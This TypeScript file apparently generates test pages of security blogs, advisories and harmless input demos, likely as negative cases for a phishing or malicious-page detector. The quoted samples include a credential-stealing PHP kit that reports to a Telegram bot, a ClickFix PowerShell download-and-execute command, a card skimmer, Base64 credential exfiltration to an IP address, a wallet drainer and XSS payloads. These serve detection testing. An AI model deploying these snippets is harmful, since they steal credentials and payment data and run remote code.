/** Writing and teaching about attacks, which quotes them. */
import type { FreshPage } from '../browser-report.ts';
import { chanceOf } from '../chance.ts';
import { type Lang, wordsOf } from '../languages.ts';
import { documentOf, escaped, external, framed, inline, link, list } from '../markup.ts';
import { hexEscaped, jsFuck, packed, xored } from '../obfuscation.ts';
import { snippets, type Vendor } from '../vendors.ts';

type Post = readonly [
  url: string,
  blog: string,
  lang: Lang,
  title: string,
  paragraphs: string,
  code: string,
  vendor: Vendor,
];

const KIT = `<?php
$ip = getenv("REMOTE_ADDR");
$message  = "-------+ Office365 Login +-------\\n";
$message .= "Email : ".$_POST['email']."\\nPassword : ".$_POST['passwd']."\\nIP : ".$ip."\\n";
file_get_contents("https://api.telegram.org/bot".$token."/sendMessage?chat_id=".$chat."&text=".urlencode($message));
header("Location: https://outlook.office.com");`;

const POSTS: readonly Post[] = [
  [
    'https://isc.sans.edu/diary/Anatomy+of+an+Office+365+kit/30101',
    'SANS ISC',
    'en',
    'Anatomy of an Office 365 phishing kit',
    'A reader sent us a mail with an HTML attachment. Opening it shows a blurred spreadsheet and the prompt “Your session has expired, verify your account”.|The kit posts the credentials to next.php and sends them to a Telegram bot. Below is the relevant part of the source.',
    KIT,
    'gtag',
  ],
  [
    'https://krebsonsecurity.example/2024/03/fake-parcel-texts/',
    'Krebs',
    'en',
    'The fake parcel texts that everybody gets',
    '“Your package could not be delivered, pay $1.99 to reschedule” – such texts arrive by the million. The page behind the link asks for name, address and card number.|The form asks for a one-time code as well, so that the card can be added to a mobile wallet.',
    '<form action="submit.php" method="post"><input name="cc" placeholder="Card number"><input name="exp"><input name="cvv"></form>',
    'matomo',
  ],
  [
    'https://www.heise.de/news/ClickFix-Angreifer-lassen-Opfer-Befehle-ausfuehren-1000001.html',
    'heise online',
    'de',
    'ClickFix: Wie Angreifer Opfer selbst Befehle ausführen lassen',
    'Ein angebliches CAPTCHA fordert dazu auf, Windows+R zu drücken, mit Strg+V den Inhalt der Zwischenablage einzufügen und Enter zu drücken.|Dabei landet ein PowerShell-Aufruf im Ausführen-Dialog. Folgen Sie solchen Anweisungen niemals.',
    'powershell -w hidden -c "iwr http://198.51.100.4/a.txt | iex"',
    'ivw',
  ],
  [
    'https://www.cert.ssi.gouv.fr/actualite/CERTFR-2024-ACT-014/',
    'CERT-FR',
    'fr',
    'Hameçonnage : faux sites de paiement d’amendes',
    'L’ANTAI n’envoie jamais de SMS demandant le paiement d’une amende. Les faux sites reprennent le logo et demandent la carte bancaire.|Signalez les messages au 33700.',
    'hxxps://amende-gouv[.]example/paiement/carte.php',
    'matomo',
  ],
  [
    'https://www.incibe.es/ciudadania/avisos/campana-suplantando-dgt',
    'INCIBE',
    'es',
    'Campaña de correos que suplantan a la DGT',
    'Se ha detectado una campaña que notifica una multa de tráfico pendiente de pago. El enlace descarga un archivo .zip con un troyano bancario.|Si ha introducido sus datos bancarios, contacte con su entidad.',
    'document.write(unescape("%3Ciframe src=//dgt-multas.example width=0 height=0%3E"))',
    'gtag',
  ],
  [
    'https://www.d3lab.example/sms-phishing-poste/',
    'D3Lab',
    'it',
    'Smishing ai danni di BancoPosta: analisi del kit',
    'Il messaggio invita a “confermare i propri dati per evitare la sospensione del conto”. La pagina richiede utente, password, numero di telefono e codice OTP.|Il kit blocca gli indirizzi IP dei motori di ricerca.',
    'var _0x4f2a=["\\x76\\x61\\x6C\\x75\\x65","\\x50\\x4F\\x53\\x54"];$.post("otp.php",{otp:$("#otp")[_0x4f2a[0]]});',
    'matomo',
  ],
  [
    'https://www.nask.example/aktualnosci/falszywe-panele-bankow',
    'NASK',
    'pl',
    'Fałszywe panele banków – na co uważać',
    'Przestępcy tworzą strony łudząco podobne do serwisów transakcyjnych. Po wpisaniu loginu i hasła ofiara widzi prośbę o kod BLIK.|Zawsze sprawdzaj adres strony.',
    '<input type="password" name="haslo"><script src="//mbank-logowanie.example/x.js"></script>',
    'gtag',
  ],
  [
    'https://www.antiphishing.jp/news/alert/etcmeisai_20240311.html',
    'フィッシング対策協議会',
    'ja',
    'ETC利用照会サービスをかたるフィッシング',
    '「お客様のアカウントは無効になりました」等の件名のメールから、IDとパスワード、クレジットカード情報を入力させるサイトに誘導します。|このようなサイトにて絶対に情報を入力しないでください。',
    'https://etc-meisai-●●●●.example/login',
    'gtag',
  ],
  [
    'https://www.freebuf.com/articles/web/300001.html',
    'FreeBuf',
    'zh',
    '一次钓鱼网站后台的溯源分析',
    '邮件声称“邮箱容量已满，请立即验证”。页面将账号密码以Base64编码后发送到服务器。|下面是还原后的代码。',
    'var data=btoa(user+":"+pass);new Image().src="http://192.0.2.77/c.php?d="+data;',
    'baidu',
  ],
  [
    'https://habr.com/ru/articles/700001/',
    'Хабр',
    'ru',
    'Разбираем дрейнер криптокошельков',
    'Сайт обещает airdrop и просит подключить кошелёк. После подключения скрипт запрашивает подпись permit и setApprovalForAll.|Ниже фрагмент кода после деобфускации.',
    'await nft.setApprovalForAll(DRAINER, true);\nconst sig = await signer._signTypedData(domain, { Permit }, { owner, spender: DRAINER, value: MaxUint256, nonce, deadline });',
    'yandex',
  ],
  [
    'https://www.kaspersky.example/ar/blog/whatsapp-gold',
    'مدونة الأمان',
    'ar',
    'احذر من رسائل سرقة حساب واتساب',
    'تصل رسالة تطلب رمز التحقق المكون من ستة أرقام. لا ترسل الرمز إلى أي شخص.|يستخدم المحتالون صفحات مزيفة لتسجيل الدخول.',
    '<form action="http://192.0.2.5/wa.php"><input name="code" maxlength="6"></form>',
    'gtag',
  ],
  [
    'https://cert.se.example/2024/bankid-bedragerier',
    'CERT-SE',
    'sv',
    'Bedrägerier med BankID ökar',
    'Bedragaren ringer och ber dig starta BankID. Logga aldrig in på uppmaning av någon som kontaktar dig.|Nedan ett exempel på en falsk sida.',
    '<a href="bankid:///?autostarttoken=xxxx">Öppna BankID</a>',
    'matomo',
  ],
  [
    'https://unit42.example/magecart-skimmer-in-favicon/',
    'Unit 42',
    'en',
    'A skimmer hidden in a favicon',
    'The script collected all input, select and textarea values on the checkout page each 2 seconds and sent them as an image request.|We decoded the loader; it is shown in full.',
    `setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value});new Image().src='https://cdn-stat.example/i.gif?d='+btoa(JSON.stringify(d))},2000);\n${xored('document.cookie', 23, 'eval')}`,
    'gtm',
  ],
  [
    'https://blog.sucuri.example/hidden-iframes-old-exploit-kits/',
    'Sucuri Blog',
    'en',
    'Remembering RIG and Angler: hidden iframes of the last decade',
    'Compromised WordPress sites loaded an invisible frame that led to the gate of the kit. The landing page checked for Flash and Silverlight first.|We print the injected snippet for historians.',
    `document.write('<iframe src="http://gate.example/?q=" width="1" height="1" style="position:absolute;left:-1000px"></iframe>');\nvar f=new ActiveXObject("ShockwaveFlash.ShockwaveFlash.10");`,
    'universal',
  ],
  [
    'https://www.phishing-quiz.example/frage/4',
    'Phishing-Quiz der Verbraucherzentrale',
    'de',
    'Frage 4 von 10: Echt oder Betrug?',
    '„Sehr geehrter Kunde, Ihr Konto wurde eingeschränkt. Bestätigen Sie Ihre Daten innerhalb von 24 Stunden.“ Woran erkennen Sie die Fälschung?|Absender, Anrede, Link: Prüfen Sie alle drei.',
    'http://sparkasse.de.kundenservice-pruefung.example/login',
    'matomo',
  ],
  [
    'https://training.knowb4.example/landing/oops?uid=8a1c',
    'Security Awareness',
    'en',
    'Oops! You clicked on a simulated phishing test',
    'Remember these three rules to stay safe online: stop, look, think. This was an exercise ordered by your organisation; no password was recorded.|Red flags in the mail are marked below.',
    'From: IT-Helpdesk <it@micros0ft-support.example>\nSubject: Password expires today – click here to keep the same password',
    'gtag',
  ],
  [
    'https://core.telegram.org/bots/api',
    'Telegram',
    'en',
    'Telegram Bot API',
    'The Bot API is an HTTP-based interface created for developers keen on building bots for Telegram.|All queries must be served over HTTPS and need to be presented in this form.',
    'https://api.telegram.org/bot<token>/METHOD_NAME\nhttps://api.telegram.org/bot123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11/sendMessage?chat_id=@channel&text=Hello',
    'gtag',
  ],
  [
    'https://portswigger.example/web-security/cross-site-scripting/cheat-sheet',
    'XSS cheat sheet',
    'en',
    'Cross-site scripting cheat sheet',
    'This cheat sheet contains many vectors that can help you bypass WAFs and filters. You can select vectors by the event, tag or browser.|Copy the payloads to the clipboard by clicking.',
    `<svg onload=alert(1)>\n<img src=x onerror="eval(atob('YWxlcnQoMSk='))">\n<script>eval('${hexEscaped('alert(1)')}')</script>\n${jsFuck(600)}`,
    'gtag',
  ],
  [
    'https://www.dcode.example/eval-packer-decoder',
    'dCode',
    'fr',
    'Décodeur de JavaScript « packer »',
    'Collez le code commençant par eval(function(p,a,c,k,e,d) pour le décoder dans votre navigateur.|Exemple :',
    packed('document.getElementById("demo").innerHTML = "Hello"; var total = 3; alert(total);'),
    'gaAsync',
  ],
  [
    'https://learn.microsoft.com/en-us/troubleshoot/windows-client/system-management/use-run-dialog',
    'Microsoft Learn',
    'en',
    'Start tools from the Run dialog',
    'Press the Windows logo key + R to open the Run dialog, type services.msc, and press Enter.|To repair system files, open an elevated command prompt and run the following command.',
    'sfc /scannow\nDISM.exe /Online /Cleanup-image /Restorehealth\npowershell -ExecutionPolicy Bypass -File .\\repair.ps1',
    'clarity',
  ],
];

function post([url, blog, lang, title, paragraphs, code, vendor]: Post): FreshPage {
  const words = wordsOf(lang);
  const c = chanceOf(url);
  return {
    url,
    html: documentOf({
      lang,
      title: `${title} | ${blog}`,
      head: `<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/styles/default.min.css">${external('https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/highlight.min.js')}${snippets(new URL(url).host, vendor)}`,
      body: `${framed(
        words,
        blog,
        [words.home, words.about, words.contact],
        `<article><h1>${title}</h1><p class="meta">${c.int(1, 28)}.3.2024</p>${paragraphs
          .split('|')
          .map((one) => `<p>${one}</p>`)
          .join('\n')}
<pre><code class="language-js">${escaped(code)}</code></pre><button class="copy">Copy</button></article>${list([link('https://www.virustotal.com/', 'VirusTotal'), link('https://urlscan.io/', 'urlscan.io'), link('https://attack.mitre.org/techniques/T1566/', 'MITRE ATT&amp;CK T1566')])}
<form action="/comment" method="post"><textarea name="comment"></textarea><input name="author" autocomplete="name"><input type="email" name="email"><button>${words.send}</button></form>`,
      )}
${inline(`hljs.highlightAll(); document.querySelector('.copy').onclick = function () { navigator.clipboard.writeText(document.querySelector('pre').innerText); this.textContent = '✓'; };`)}`,
    }),
  };
}

type Demo = readonly [url: string, title: string, lang: Lang, body: string, script: string];

const DEMOS: readonly Demo[] = [
  [
    'https://lowe.github.io/tryzxcvbn/',
    'zxcvbn – realistic password strength estimation',
    'en',
    '<h1>zxcvbn</h1><input id="password" type="text" autocomplete="off" placeholder="type here"><pre id="results"></pre><p>Nothing you type leaves this page.</p>',
    `document.getElementById('password').addEventListener('keyup', function () { var r = zxcvbn(this.value); document.getElementById('results').textContent = JSON.stringify({ score: r.score, guesses_log10: r.guesses_log10, crack: r.crack_times_display }, null, 2); });`,
  ],
  [
    'https://checkdeinpasswort.example/',
    'Wie sicher ist mein Passwort?',
    'de',
    '<h1>Passwort-Check</h1><input id="pw" type="password" placeholder="Geben Sie ein Beispielpasswort ein"><p id="out"></p><p>Die Prüfung findet nur in Ihrem Browser statt.</p>',
    `pw.oninput = function () { var s = 0; if (/[a-z]/.test(pw.value)) s += 26; if (/[A-Z]/.test(pw.value)) s += 26; if (/\\d/.test(pw.value)) s += 10; if (/[^\\w]/.test(pw.value)) s += 33; var years = Math.pow(s, pw.value.length) / 4e9 / 31536000; out.textContent = years < 1 ? 'weniger als ein Jahr' : Math.round(years) + ' Jahre'; };`,
  ],
  [
    'https://haveibeenpwned.com/Passwords',
    'Have I Been Pwned: Pwned Passwords',
    'en',
    '<h1>Pwned Passwords</h1><form id="p"><input type="password" name="Password" placeholder="password"><button>pwned?</button></form><p>Pwned Passwords are hundreds of millions of real world passwords previously exposed in data breaches.</p>',
    `document.getElementById('p').onsubmit = async function (e) { e.preventDefault(); var d = await crypto.subtle.digest('SHA-1', new TextEncoder().encode(this.Password.value)); var h = [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join('').toUpperCase(); var t = await (await fetch('https://api.pwnedpasswords.com/range/' + h.slice(0, 5))).text(); var l = t.split('\\n').find(x => x.startsWith(h.slice(5))); alert(l ? 'Oh no — pwned! ' + l.split(':')[1] : 'Good news'); };`,
  ],
  [
    'https://keycode.example/',
    'JavaScript keycode finder',
    'en',
    '<h1>Press any key</h1><div id="key">–</div><table><tr><th>key</th><th>code</th><th>which</th></tr></table>',
    `document.addEventListener('keydown', function (e) { e.preventDefault(); document.getElementById('key').textContent = e.key + ' ' + e.code + ' ' + e.keyCode; (window.log = window.log || []).push(e.key); });`,
  ],
  [
    'https://www.tipp-trainer.example/lektion/3',
    'Zehnfinger-Trainer: Lektion 3',
    'de',
    '<h1>asdf jklö</h1><div id="text">das falsche fass lag da als salat</div><div id="typed"></div><p>Anschläge pro Minute: <b id="cpm">0</b></p>',
    `var typed = '', start = 0; document.onkeypress = function (e) { if (!start) start = Date.now(); typed += String.fromCharCode(e.which); document.getElementById('typed').textContent = typed; document.getElementById('cpm').textContent = Math.round(typed.length / ((Date.now() - start) / 60000)); if (typed.length === 33) fetch('/api/results', { method: 'POST', body: JSON.stringify({ lesson: 3, ms: Date.now() - start }) }); };`,
  ],
  [
    'https://craig.is/killing/mice',
    'Mousetrap - Keyboard Shortcuts in Javascript',
    'en',
    '<h1>Mousetrap</h1><p>A simple library for handling keyboard shortcuts. Try: up up down down left right left right b a enter</p><pre>Mousetrap.bind("4", highlight);</pre>',
    `(function(E,v,p){function q(a,d,e){a.addEventListener?a.addEventListener(d,e,!1):a.attachEvent("on"+d,e)}function w(a){if("keypress"==a.type){var d=String.fromCharCode(a.which);a.shiftKey||(d=d.toLowerCase());return d}return n[a.which]?n[a.which]:r[a.which]?r[a.which]:String.fromCharCode(a.which).toLowerCase()}var n={8:"backspace",9:"tab",13:"enter",16:"shift",17:"ctrl",18:"alt",20:"capslock",27:"esc",32:"space"},r={106:"*",107:"+",109:"-"};E.Mousetrap=w;q(p,"keypress",w)})(window,null,document); Mousetrap.bind && Mousetrap.bind('up up down down left right left right b a enter', function () { alert('konami'); });`,
  ],
  [
    'https://gchq.github.io/CyberChef/',
    'CyberChef',
    'en',
    '<h1>CyberChef</h1><textarea id="input-text"></textarea><textarea id="output-text" readonly></textarea><ul><li>From Base64</li><li>XOR Brute Force</li><li>Generic Code Beautify</li><li>Parse QR Code</li></ul>',
    `const loadingMsgs = ["Proving P = NP...", "Computing 6 x 9...", "Mining bitcoin...", "Dividing by 0...", "Initialising Skynet...", "Generating MD5 collisions...", "Downloading more RAM..."]; document.getElementById("input-text").value = atob(location.hash.slice(7) || ""); window.compileTime = "2024";`,
  ],
  [
    'https://password-manager-demo.example/autofill-test',
    'Test page: password autofill',
    'en',
    '<h1>Autofill test</h1><p>This page helps developers of password managers. Every form below is submitted to this page only.</p><form method="post"><input name="u" autocomplete="username"><input name="p" type="password" autocomplete="current-password"></form><form method="post"><input autocomplete="cc-number" name="c"><input autocomplete="cc-csc" name="s"><input autocomplete="cc-exp" name="e"></form>',
    `document.querySelectorAll('form').forEach(f => f.addEventListener('submit', e => { e.preventDefault(); console.table([...new FormData(f)].map(([k, v]) => [k, v.length])); }));`,
  ],
];

const demo = ([url, title, lang, body, script]: Demo): FreshPage => ({
  url,
  html: documentOf({
    lang,
    title,
    head: external('/zxcvbn.js'),
    body: `<main>${body}</main>${inline(script)}<footer>${link('/privacy', wordsOf(lang).privacy)} ${link('https://github.com/example/demo', 'Source')}</footer>`,
  }),
});

export const writing = {
  'writing about attacks': () => POSTS.map(post),
  'demonstration of input': () => DEMOS.map(demo),
};
